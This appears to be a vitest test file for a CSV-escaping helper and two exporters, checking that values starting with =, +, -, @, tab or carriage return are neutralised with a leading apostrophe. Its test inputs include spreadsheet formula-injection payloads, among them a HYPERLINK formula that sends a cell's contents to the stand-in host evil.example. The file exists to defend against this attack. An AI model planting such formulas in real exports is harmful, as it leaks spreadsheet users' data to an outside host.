import { describe, expect, it } from 'vitest';
import { toCsv as calibrationCsv } from '../calibration/export.ts';
import { toCsv as driftCsv } from '../drift/csv.ts';
import { csvCell } from './cell.ts';

describe('a CSV cell', () => {
  it('neutralises text a spreadsheet would run as a formula (issue 18, finding 7)', () => {
    expect(csvCell('=HYPERLINK("http://evil.example?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""click"")"`);
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${start}cmd`).replace(/^"/, '')).toMatch(/^'/);
  });

  it('leaves numbers and ordinary text alone', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(null)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });
});

describe('the CSV exports', () => {
  it("write an annotator's =HYPERLINK note as text in the calibration labels, and a lineage named @SUM in drift data", () => {
    const labels = calibrationCsv(['annotator', 'note'], [{ annotator: 'ann@example.test', note: '=HYPERLINK("http://evil.example","x")' }]);
    expect(labels.split('\r\n')[1]).toBe(`ann@example.test,"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(driftCsv([['@SUM(A1:A9)', -1]])).toBe("'@SUM(A1:A9),-1\r\n");
  });
});
